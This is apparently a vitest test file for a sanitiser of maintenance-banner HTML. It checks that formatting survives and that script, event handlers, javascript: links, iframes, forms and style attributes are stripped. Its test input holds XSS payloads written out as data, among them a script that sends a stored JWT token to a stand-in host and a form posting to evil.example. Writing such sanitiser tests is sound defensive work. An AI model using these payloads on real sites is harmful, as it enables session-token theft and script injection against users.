import { describe, expect, it } from 'vitest';
import { safeMaintenanceHtml } from './maintenanceHtml.ts';

describe('maintenance html', () => {
  it('keeps formatting and links', () => {
    const html = '<p>Back at <b>10:00</b>, see <a href="https://status.example/">status</a></p>';
    expect(safeMaintenanceHtml(html)).toBe(html);
  });

  it('drops anything that could run script or read the token', () => {
    const out = safeMaintenanceHtml(
      '<p>hi</p><script>fetch("//x?"+localStorage["jwt-token"])</script>' +
        '<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>' +
        '<iframe src="//evil.example"></iframe><form action="//evil.example"><input name="p"></form>' +
        '<svg><script>alert(1)</script></svg><p style="position:fixed">cover</p>',
    );
    expect(out).not.toMatch(/script|onerror|javascript:|iframe|form|input|style=/i);
    expect(out).toContain('<p>hi</p>');
    expect(out).toContain('<img src="x">');
  });
});
